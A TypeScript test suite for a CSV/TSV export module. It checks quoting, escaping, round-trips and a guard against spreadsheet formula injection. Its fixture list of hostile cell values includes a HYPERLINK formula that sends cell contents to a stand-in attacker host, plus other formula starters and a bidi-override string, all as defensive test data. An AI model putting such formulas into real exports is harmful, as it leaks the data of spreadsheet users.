import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, csvCell, csvRow, headerRow, tsvCell, tsvRow } from '../../src/export/delimited.js';
import { parseCsv } from './rfc4180.js';

/** The TSV reader a script would write: split on tabs, then undo the four escapes. */
function parseTsvLine(line: string): string[] {
  return line
    .split('\t')
    .map((f) => f.replace(/\\(.)/g, (_, c: string) => ({ t: '\t', n: '\n', r: '\r', '\\': '\\' })[c] ?? `\\${c}`));
}

/** What the formula guard makes of a text: a leading apostrophe before a formula starter. */
const guarded = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const HOSTILE = [
  'Smith, John',
  'The "Boss"',
  'line one\nline two',
  'cr\r\nlf',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1 555 0100',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Zoë 😀👩‍👩‍👧',
  'مرحبا بالعالم',
  '\u202eevil\u202c',
  'semi;colon',
  '',
  ' leading space',
  "'already quoted",
];

describe('CSV cells', () => {
  it('absent and null are empty; numbers and booleans as JSON writes them; plain arrays joined with ;', () => {
    expect(cellText(undefined)).toBe('');
    expect(cellText(null)).toBe('');
    expect(cellText(-5.5)).toBe('-5.5');
    expect(cellText(false)).toBe('false');
    expect(cellText(['admin', 'user'])).toBe('admin;user');
    expect(cellText(['a', null, 3, true])).toBe('a;;3;true');
    expect(cellText([{ address: 'a@x' }])).toBe('[{"address":"a@x"}]');
    expect(cellText({ b: 1, a: 'x' })).toBe('{"b":1,"a":"x"}');
  });

  it('guards text a spreadsheet would run as a formula, never a number or boolean from the server', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(['-a', 'b'])).toBe('"\'-a;b"');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('quotes what RFC 4180 says, and ; (Excel splits on it in many locales)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvRow(['a', 1, null, true])).toBe('a,1,,true\r\n');
    expect(headerRow('csv', ['username', 'emails.0.address'])).toBe('username,emails.0.address\r\n');
  });

  it('hostile names come back intact through an independent RFC 4180 reader, guarded where they start a formula', () => {
    const text = csvRow(['name', 'n']) + HOSTILE.map((h, i) => csvRow([h, i])).join('');
    const records = parseCsv(text);
    expect(records).toHaveLength(HOSTILE.length + 1);
    expect(records[0]).toEqual(['name', 'n']);
    HOSTILE.forEach((h, i) => {
      const [cell, n] = records[i + 1]!;
      expect(n).toBe(String(i));
      expect(cell).toBe(guarded(h));
    });
  });

  it('round-trips any row of any text (fast-check; the seed is printed on failure)', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...HOSTILE),
      fc.stringMatching(/^[=+\-@\t\r,";\n a-z]{0,8}$/),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }), (rows) => {
        const width = rows[0]!.length;
        const same = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        const parsed = parseCsv(same.map((r) => csvRow(r)).join(''));
        expect(parsed).toEqual(same.map((r) => r.map(guarded)));
      }),
      { numRuns: 500 },
    );
  });
});

describe('TSV cells', () => {
  it('escapes backslash, tab, LF and CR, and nothing else; no formula guard', () => {
    expect(tsvCell('a\tb\nc\rd\\e')).toBe('a\\tb\\nc\\rd\\\\e');
    expect(tsvCell('=1+1')).toBe('=1+1');
    expect(tsvCell('"quoted", yes')).toBe('"quoted", yes');
    expect(tsvRow(['a', 1, null, ['x', 'y']])).toBe('a\t1\t\tx;y\n');
    expect(headerRow('tsv', ['username', 'name'])).toBe('username\tname\n');
  });

  it('round-trips any text: split on tabs and undo the escapes (fast-check; the seed is printed on failure)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[\\\t\r\nnrt]{0,8}$/)), {
          minLength: 1,
          maxLength: 6,
        }),
        (cells) => {
          const line = tsvRow(cells);
          expect(line.endsWith('\n')).toBe(true);
          expect(line.slice(0, -1)).not.toMatch(/[\n\r]/);
          expect(parseTsvLine(line.slice(0, -1))).toEqual(cells);
        },
      ),
      { numRuns: 1000 },
    );
  });
});
